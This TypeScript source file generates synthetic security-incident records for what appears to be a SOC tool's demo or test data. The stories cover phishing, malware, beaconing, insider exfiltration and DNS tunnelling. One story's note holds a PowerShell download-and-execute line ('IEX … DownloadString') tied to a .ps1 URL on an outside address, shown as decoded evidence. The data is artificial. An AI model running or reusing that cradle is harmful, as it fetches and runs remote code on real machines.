import type { Random } from "./random.js";

/** What a SOC sees in a month: each story tells one kind of incident, with details drawn at random. */
export interface Incident {
  name: string;
  description: string;
  label: string;
  severity: string;
  sensitivity: "red" | "amber" | "green" | "white";
  killChain: string | null;
  tags: string[];
  artifacts: Evidence[];
  notes: { title: string; content: string; about?: number }[];
  pins: {
    name?: string;
    message: string;
    data: string;
    style: "grey" | "blue" | "red" | "white" | "purple";
    type: "data" | "card_small" | "card_medium";
  }[];
  comments: string[];
}

export interface Evidence {
  name: string;
  label: string;
  type: string | null;
  severity: string;
  cef: Record<string, unknown>;
  cefTypes?: Record<string, unknown>;
}

const people = ["j.keller", "m.rossi", "p.novak", "s.haddad", "t.larsen", "w.okoye", "y.tanaka", "e.dubois"];
const hosts = [
  "FIN-LT-0142",
  "HR-LT-0087",
  "ENG-WS-0311",
  "SRV-FILE-02",
  "SRV-DC-01",
  "MKT-LT-0219",
  "DEV-WS-0045",
  "SRV-WEB-03",
];
const badHosts = [
  "cdn-upd4te.example",
  "login-micros0ft.example",
  "secure-docs.example",
  "invoice-portal.example",
  "fastcdn-sync.example",
];

const inside = (random: Random) => `10.${random.between(1, 40)}.${random.between(0, 255)}.${random.between(2, 254)}`;
const outside = (random: Random) => `${random.pick(["203.0.113", "198.51.100", "192.0.2"])}.${random.between(2, 254)}`;

type Story = (random: Random) => Incident;

const phishing: Story = (random) => {
  const [person, host, sender] = [random.pick(people), random.pick(badHosts), `billing@${random.pick(badHosts)}`];
  const url = `https://${host}/${random.hex(8)}/verify`;
  return {
    name: `Phishing mail reported by ${person}`,
    description: `${person} reported a mail that asks to confirm an invoice on ${host}.`,
    label: "phishing",
    severity: random.pick(["medium", "high", "low"]),
    sensitivity: "amber",
    killChain: "Delivery",
    tags: ["phishing", "user-reported"],
    artifacts: [
      {
        name: "Mail",
        label: "email",
        type: "email",
        severity: "medium",
        cef: { fromEmail: sender, toEmail: `${person}@corp.example`, emailSubject: "Invoice overdue, action needed" },
      },
      {
        name: "Link",
        label: "url",
        type: "network",
        severity: "high",
        cef: { requestURL: url, destinationDnsDomain: host },
      },
      {
        name: "Attachment",
        label: "file",
        type: "host",
        severity: "medium",
        cef: { fileName: `invoice_${random.between(1000, 9999)}.html`, fileHash: random.hex(64) },
        cefTypes: { fileHash: ["sha256"] },
      },
    ],
    notes: [
      {
        title: "First look",
        content: `The sender domain was registered ${random.between(2, 9)} days ago. SPF fails, DKIM is missing.`,
      },
      {
        title: "The page behind the link",
        content: "A copy of our single sign-on page. It posts what is typed to a server in another country.",
        about: 1,
      },
    ],
    pins: [{ name: "sender", message: "Sender", data: sender, style: "red", type: "data" }],
    comments: [`Asked ${person} whether a password was typed: no.`],
  };
};

const malware: Story = (random) => {
  const [host, hash] = [random.pick(hosts), random.hex(64)];
  const family = random.pick(["Emotet", "Qakbot", "AgentTesla", "RedLine", "Lokibot"]);
  return {
    name: `${family} detected on ${host}`,
    description: `The endpoint agent stopped a file that it takes for ${family}.`,
    label: "malware",
    severity: "high",
    sensitivity: "amber",
    killChain: "Installation",
    tags: ["malware", family.toLowerCase()],
    artifacts: [
      {
        name: "File",
        label: "file",
        type: "host",
        severity: "high",
        cef: { fileName: `update_${random.hex(4)}.exe`, filePath: "C:\\Users\\Public\\", fileHash: hash },
        cefTypes: { fileHash: ["sha256"] },
      },
      {
        name: "Host",
        label: "asset",
        type: "host",
        severity: "medium",
        cef: {
          destinationHostName: host,
          destinationAddress: inside(random),
          destinationUserName: random.pick(people),
        },
      },
      {
        name: "Connection",
        label: "netflow",
        type: "network",
        severity: "medium",
        cef: {
          sourceAddress: inside(random),
          destinationAddress: outside(random),
          destinationPort: 443,
          bytesOut: random.between(1000, 90000),
        },
      },
    ],
    notes: [
      {
        title: "Containment",
        content: `${host} isolated by the agent at once. Memory image taken before the reboot.`,
        about: 1,
      },
    ],
    pins: [
      { name: "family", message: "Malware family", data: family, style: "red", type: "card_small" },
      { message: "SHA-256", data: hash, style: "grey", type: "data" },
    ],
    comments: ["Isolated. Waiting for the owner to hand in the laptop.", "Image is on the evidence share."],
  };
};

const travel: Story = (random) => {
  const person = random.pick(people);
  const [from, to] = [random.pick(["Zurich", "Milan", "Oslo"]), random.pick(["Lagos", "Jakarta", "Lima"])];
  return {
    name: `Impossible travel for ${person}`,
    description: `Two logins of ${person} from ${from} and ${to} within ${random.between(12, 55)} minutes.`,
    label: "events",
    severity: "medium",
    sensitivity: "green",
    killChain: "Exploitation",
    tags: ["identity", "impossible-travel"],
    artifacts: [
      {
        name: `Login from ${from}`,
        label: "login",
        type: "network",
        severity: "low",
        cef: { sourceAddress: outside(random), sourceUserName: person, deviceAction: "allowed" },
      },
      {
        name: `Login from ${to}`,
        label: "login",
        type: "network",
        severity: "medium",
        cef: {
          sourceAddress: outside(random),
          sourceUserName: person,
          deviceAction: "allowed",
          requestClientApplication: "python-requests/2.31",
        },
      },
    ],
    notes: [
      {
        title: "Called the user",
        content: `${person} is in ${from} and did not log in from elsewhere. Sessions revoked, password reset.`,
      },
    ],
    pins: [{ name: "account", message: "Account", data: person, style: "blue", type: "data" }],
    comments: ["Second factor was approved by push: fatigue attack?"],
  };
};

const bruteForce: Story = (random) => {
  const [address, host] = [outside(random), random.pick(hosts)];
  return {
    name: `Brute force against SSH on ${host}`,
    description: `${random.between(900, 9000)} failed logins from ${address} in ten minutes.`,
    label: "events",
    severity: "low",
    sensitivity: "white",
    killChain: "Reconnaissance",
    tags: ["brute-force", "ssh"],
    artifacts: [
      {
        name: "Source",
        label: "netflow",
        type: "network",
        severity: "low",
        cef: { sourceAddress: address, destinationHostName: host, destinationPort: 22, transportProtocol: "tcp" },
      },
      {
        name: "Account tried most",
        label: "login",
        type: "host",
        severity: "low",
        cef: { destinationUserName: "root", deviceAction: "blocked" },
      },
    ],
    notes: [{ title: "Block", content: `${address} blocked at the border for a week.` }],
    pins: [{ message: "Blocked address", data: address, style: "white", type: "card_small" }],
    comments: [],
  };
};

const beacon: Story = (random) => {
  const [host, domain] = [random.pick(hosts), random.pick(badHosts)];
  return {
    name: `Beacon from ${host} to ${domain}`,
    description: `A connection every ${random.between(40, 75)} seconds for ${random.between(3, 30)} hours, always the same size.`,
    label: "incident",
    severity: "high",
    sensitivity: "red",
    killChain: "Command & Control",
    tags: ["c2", "beacon"],
    artifacts: [
      {
        name: "Beacon",
        label: "netflow",
        type: "network",
        severity: "high",
        cef: {
          sourceHostName: host,
          sourceAddress: inside(random),
          destinationDnsDomain: domain,
          destinationAddress: outside(random),
          destinationPort: 443,
        },
      },
      {
        name: "Process",
        label: "process",
        type: "host",
        severity: "high",
        cef: { sourceProcessName: "rundll32.exe", fileHash: random.hex(32) },
        cefTypes: { fileHash: ["md5"] },
      },
      {
        name: "Name lookup",
        label: "dns",
        type: "network",
        severity: "medium",
        cef: { destinationDnsDomain: domain, deviceAction: "allowed" },
      },
    ],
    notes: [
      {
        title: "Pattern",
        content: "Jitter is below 5 %. **Not** a browser: no referrer, one user agent, TLS without SNI.",
      },
      { title: "Scope", content: `The domain was asked for by ${random.between(1, 4)} hosts in 30 days.`, about: 2 },
    ],
    pins: [
      { name: "c2", message: "Command and control", data: domain, style: "red", type: "card_medium" },
      { name: "host", message: "Host", data: host, style: "purple", type: "card_small" },
    ],
    comments: ["Do not block yet, forensics wants traffic.", "Blocked now."],
  };
};

const exfiltration: Story = (random) => {
  const [person, host] = [random.pick(people), random.pick(hosts)];
  const size = random.between(4, 38);
  return {
    name: `${size} GB uploaded by ${person}`,
    description: `${size} GB went from ${host} to a personal cloud drive on the last day of a contract.`,
    label: "incident",
    severity: "high",
    sensitivity: "red",
    killChain: "Actions on Objectives",
    tags: ["insider", "exfiltration"],
    artifacts: [
      {
        name: "Upload",
        label: "proxy",
        type: "network",
        severity: "high",
        cef: {
          sourceUserName: person,
          sourceHostName: host,
          requestURL: "https://drive.example/upload",
          bytesOut: size * 1_000_000_000,
        },
      },
      {
        name: "Archive",
        label: "file",
        type: "host",
        severity: "medium",
        cef: { fileName: "backup_final.7z", fileSize: size * 1_000_000_000, fileHash: random.hex(40) },
        cefTypes: { fileHash: ["sha1"] },
      },
    ],
    notes: [{ title: "People", content: "HR and Legal are informed. **Do not contact the person.**" }],
    pins: [{ name: "data", message: "Data that left", data: `${size} GB`, style: "red", type: "card_medium" }],
    comments: ["Account disabled at 17:05."],
  };
};

const powershell: Story = (random) => {
  const host = random.pick(hosts);
  return {
    name: `Encoded PowerShell on ${host}`,
    description: "A Word process started PowerShell with an encoded command.",
    label: "events",
    severity: "medium",
    sensitivity: "amber",
    killChain: "Exploitation",
    tags: ["powershell", "office"],
    artifacts: [
      {
        name: "Process",
        label: "process",
        type: "host",
        severity: "medium",
        cef: {
          destinationHostName: host,
          sourceProcessName: "WINWORD.EXE",
          destinationProcessName: "powershell.exe",
          message: `-enc ${random.hex(24)}`,
        },
      },
      {
        name: "Download",
        label: "url",
        type: "network",
        severity: "high",
        cef: { requestURL: `http://${outside(random)}/${random.hex(6)}.ps1` },
      },
    ],
    notes: [
      { title: "Decoded", content: "```powershell\nIEX (New-Object Net.WebClient).DownloadString($u)\n```", about: 0 },
    ],
    pins: [],
    comments: ["Macro came with yesterday's mail wave."],
  };
};

const exposure: Story = (random) => {
  const bucket = `corp-${random.pick(["exports", "backup", "media", "reports"])}-${random.hex(4)}`;
  return {
    name: `Storage bucket ${bucket} is public`,
    description: "The configuration scan found a bucket that anybody can list.",
    label: "vulnerability",
    severity: "medium",
    sensitivity: "green",
    killChain: null,
    tags: ["cloud", "misconfiguration"],
    artifacts: [
      {
        name: "Bucket",
        label: "cloud",
        type: "cloud",
        severity: "medium",
        cef: { requestURL: `https://${bucket}.storage.example/`, deviceCustomString1: "AllUsers:READ" },
        cefTypes: { deviceCustomString1: ["acl"] },
      },
    ],
    notes: [{ title: "Content", content: "Marketing pictures only; nothing personal found in a sample of 200 files." }],
    pins: [{ name: "owner", message: "Owner", data: "Marketing", style: "grey", type: "data" }],
    comments: [],
  };
};

const tunnelling: Story = (random) => {
  const [host, domain] = [random.pick(hosts), random.pick(badHosts)];
  return {
    name: `DNS tunnelling suspected from ${host}`,
    description: `${random.between(2000, 30000)} TXT queries below ${domain} in an hour, names of 60 characters.`,
    label: "events",
    severity: "medium",
    sensitivity: "amber",
    killChain: "Command & Control",
    tags: ["dns", "tunnelling"],
    artifacts: [
      {
        name: "Queries",
        label: "dns",
        type: "network",
        severity: "medium",
        cef: {
          sourceAddress: inside(random),
          sourceHostName: host,
          destinationDnsDomain: `${random.hex(30)}.${domain}`,
        },
      },
      {
        name: "Resolver",
        label: "asset",
        type: "network",
        severity: "low",
        cef: { destinationAddress: "10.1.0.53", destinationPort: 53 },
      },
    ],
    notes: [
      {
        title: "False positive?",
        content: "The endpoint agent of another vendor looks alike; entropy is higher here.",
      },
    ],
    pins: [],
    comments: ["Sinkholed the zone."],
  };
};

/** In the order in which they take turns. */
export const stories: readonly Story[] = [
  phishing,
  malware,
  bruteForce,
  travel,
  phishing,
  beacon,
  powershell,
  exposure,
  exfiltration,
  tunnelling,
];
